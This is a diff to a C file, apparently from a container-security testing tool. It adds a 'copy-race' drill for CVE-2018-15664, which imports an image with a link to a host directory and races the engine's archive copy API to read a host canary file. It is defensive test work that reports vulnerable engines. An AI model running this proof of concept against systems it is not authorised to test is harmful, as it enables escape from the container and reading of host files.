@@ -1,5 +1,7 @@
 /* drills-api.c: drills that are calls of the API: ids that lead elsewhere, and copies through an
  * image's links. */
+#include <errno.h>
+
 #include "drill/drill.h"
 
 /* ---- ids ---- */
@@ -25,7 +27,7 @@ static int run_ids(const Drill *drill, Attempt *attempt, Error *err) {
                                    names[i % ELEMENTS(names)], slot + strlen("%s"));
                 int status = 0;
 
-                r = box_call(attempt->cli, call[0], path, NULL, &status, err);
+                r = box_call(attempt->cli, call[0], path, NULL, &status, NULL, err);
                 if (r == 0 && (status < 300 || status >= 500))
                         buf_format(attempt->got, "%s %s answers %d\n", call[0], path, status);
         }
@@ -72,9 +74,8 @@ static int import_links(const Attempt *attempt, Error *err) {
         return r <= 0 ? r : error_kind(err, ERROR_INTERNAL, "import an image: %s", refusal);
 }
 
-static int create(const Attempt *attempt, char **ret_id, Error *err) {
-        _cleanup_json_ json_object *request = box_request("brig-drill:links", "user"),
-                                   *answer = NULL;
+static int create(const Attempt *attempt, json_object *request, char **ret_id, Error *err) {
+        _cleanup_json_ json_object *answer = NULL;
         int r = api_json(attempt->cli, "POST", "/containers/create", request, &answer, err);
 
         if (r == 0)
@@ -101,29 +102,95 @@ static int copy_through(const Attempt *attempt, const char *id, Error *err) {
                         path_format("/containers/%s/archive?path=%s", id, directory);
                 int status = 0;
 
-                r = box_call(attempt->cli, "GET", out, NULL, &status, err);
+                r = box_call(attempt->cli, "GET", out, NULL, &status, NULL, err);
                 if (r == 0 && status < 300)
                         buf_format(attempt->got, "the host's file is read through /%s\n", links[i]);
                 if (r == 0)
-                        r = box_call(attempt->cli, "PUT", in, &tar, &status, err);
+                        r = box_call(attempt->cli, "PUT", in, &tar, &status, NULL, err);
         }
         return r;
 }
 
 static int run_copy_links(const Drill *drill, Attempt *attempt, Error *err) {
+        _cleanup_json_ json_object *request = box_request("brig-drill:links", "user");
         _cleanup_free_ char *id = NULL, *path = NULL;
         Error ignored = {};
         int r = import_links(attempt, err);
 
         (void)drill;
         if (r == 0)
-                r = create(attempt, &id, err);
+                r = create(attempt, request, &id, err);
         if (r < 0)
                 return r;
         r = copy_through(attempt, id, err);
         path = str_format("/containers/%s?force=1", id);
         if (api_do(attempt->cli, "DELETE", path, r < 0 ? &ignored : err) < 0 && r == 0)
-                return -err->number;
+                return -EIO;
+        return r;
+}
+
+/* The same where the container exchanges directory and link all the time. */
+static int copy_rounds(const Attempt *attempt, const char *id, Error *err) {
+        _cleanup_free_ char *out = path_format("/containers/%s/archive?path=/tmp/place/canary", id);
+        _cleanup_free_ char *in = path_format("/containers/%s/archive?path=/tmp/place", id);
+        _cleanup_buf_ Buf tar = {};
+        int64_t found = 0;
+        int r = 0;
+
+        tar_add(&tar, &(TarEntry){ "canary", NULL, TAR_FILE, 0644, "evil\n", 5, NULL });
+        tar_end(&tar);
+        for (int64_t round = 0; r == 0 && round < attempt->rounds; round++) {
+                _cleanup_buf_ Buf answer = {};
+                int status = 0;
+
+                r = box_call(attempt->cli, "GET", out, NULL, &status, &answer, err);
+                found += r == 0 && status < 300;
+                if (r == 0 && answer.data &&
+                    memmem(answer.data, answer.length, CANARY, strlen(CANARY)))
+                        buf_format(attempt->got, "the host's file is read, in round %lld\n",
+                                   (long long)round);
+                if (r == 0)
+                        r = box_call(attempt->cli, "PUT", in, &tar, &status, NULL, err);
+        }
+        if (r == 0 && found == 0)
+                return error_kind(err, ERROR_INTERNAL,
+                                  "no round of %lld found the container's own directory",
+                                  (long long)attempt->rounds);
+        return r;
+}
+
+static int import_race(const Attempt *attempt, Error *err) {
+        _cleanup_free_ char *refusal = NULL;
+        _cleanup_buf_ Buf tar = {};
+        int r = box_guest_tar(&tar, err);
+
+        if (r < 0)
+                return r;
+        tar_add(&tar, &(TarEntry){ "tmp/place", NULL, TAR_DIRECTORY, 0755, NULL, 0, NULL });
+        tar_add(&tar, &(TarEntry){ "tmp/place/canary", NULL, TAR_FILE, 0644, "own\n", 4, NULL });
+        tar_add(&tar, &(TarEntry){ "tmp/link", attempt->directory, TAR_LINK, 0777, NULL, 0, NULL });
+        tar_end(&tar);
+        r = box_import(attempt->cli, "race", &tar, &refusal, err);
+        return r <= 0 ? r : error_kind(err, ERROR_INTERNAL, "import an image: %s", refusal);
+}
+
+static int run_copy_race(const Drill *drill, Attempt *attempt, Error *err) {
+        _cleanup_json_ json_object *request = box_request("brig-drill:race", drill->guest);
+        _cleanup_free_ char *id = NULL, *start = NULL, *remove = NULL;
+        Error ignored = {};
+        int r = import_race(attempt, err);
+
+        if (r == 0)
+                r = create(attempt, request, &id, err);
+        if (r < 0)
+                return r;
+        start = str_format("/containers/%s/start", id);
+        remove = str_format("/containers/%s?force=1", id);
+        r = api_do(attempt->cli, "POST", start, err);
+        if (r == 0)
+                r = copy_rounds(attempt, id, err);
+        if (api_do(attempt->cli, "DELETE", remove, r < 0 ? &ignored : err) < 0 && r == 0)
+                return -EIO;
         return r;
 }
 
@@ -161,6 +228,8 @@ static const Drill drills[] = {
           run_names, NULL },
         { "copy-links", "CVE-2018-15664", "Files are copied in and out through an image's links",
           "report it: copies follow a link out of the container", run_copy_links, NULL },
+        { "copy-race", "CVE-2018-15664", "The same while directory and link are exchanged",
+          "report it: a copy looks a path up twice", run_copy_race, "swap" },
         { "mount-links", "CVE-2021-30465", "Mounts, volumes, directories below an image's links",
           "report it: a mount's target is found outside of the container", run_mount_links, NULL },
 };
